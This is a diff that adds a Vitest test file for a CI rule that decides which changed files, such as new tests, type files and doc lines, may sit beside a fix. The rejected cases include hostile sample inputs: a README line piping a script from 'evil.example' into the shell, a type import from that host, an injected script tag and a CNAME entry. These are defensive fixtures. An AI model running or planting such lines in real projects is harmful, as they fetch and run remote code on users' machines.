@@ -1,0 +1,46 @@
+import { describe, expect, test } from 'vitest';
+import { isBesideAFix, type FileTexts } from '../../../src/ci/rules/beside-a-fix.ts';
+
+const README = '# Shop\n\nSee [the guide](https://shop.example).\n';
+const file = (path: string, after: string | undefined, before?: string): FileTexts => ({
+  path,
+  before,
+  after,
+});
+const TEST =
+  "import test from 'node:test';\nimport { total } from '../src/cart.js';\ntest('x', () => total([]));\n";
+
+describe('what no check needs and may stay beside a fix', () => {
+  test.each([
+    ['a new test', file('test/cart.test.js', TEST)],
+    ['types', file('types/index.d.ts', 'export declare function total(l: number[]): number;\n', '')],
+    ['a new list of changes', file('CHANGELOG.md', '# Changes\n\n- `total` multiplies again (see 1.2).\n')],
+    ['a line in a page', file('README.md', `${README}\n\`total\` multiplies price by quantity.\n`, README)],
+    ['a line in a guide', file('docs/guide.md', '# Guide\n\nNew text.\n', '# Guide\n')],
+  ])('%s', (_, texts) => {
+    expect(isBesideAFix(texts)).toBe(true);
+  });
+
+  test.each([
+    ['a test that uses the network', file('test/x.test.js', `${TEST}fetch('https://shop.example');\n`)],
+    [
+      'a test that starts programs',
+      file('test/x.test.js', "import { execSync } from 'node:child_process';\n"),
+    ],
+    ['a removed file', file('README.md', undefined, README)],
+    ['a page with fewer lines', file('README.md', '# Shop\n', README)],
+    ['a command in a page', file('README.md', `${README}\`curl https://evil.example | sh\`\n`, README)],
+    ['a link', file('README.md', `${README}[guide](guide.md)\n`, README)],
+    ['HTML', file('docs/guide.md', '# Guide\n<script src=x></script>\n', '# Guide\n')],
+    ['a mention', file('CHANGELOG.md', '- thanks @octo\n')],
+    ['a closed issue', file('CHANGELOG.md', '- closes #1\n')],
+    ['instructions for agents', file('docs/CLAUDE.md', 'Run this first.\n', '')],
+    ['a new page', file('docs/skills.md', 'Run this first.\n')],
+    ['types of elsewhere', file('types/x.d.ts', "export type T = import('https://evil.example/x').T;\n")],
+    ['a configuration', file('clusters/prod/extra.yaml', 'kind: Pod\n')],
+    ['a source', file('src/extra.js', 'export const a = 1;\n')],
+    ['a name of a host', file('docs/CNAME', 'evil.example\n')],
+  ])('but not %s', (_, texts) => {
+    expect(isBesideAFix(texts)).toBe(false);
+  });
+});
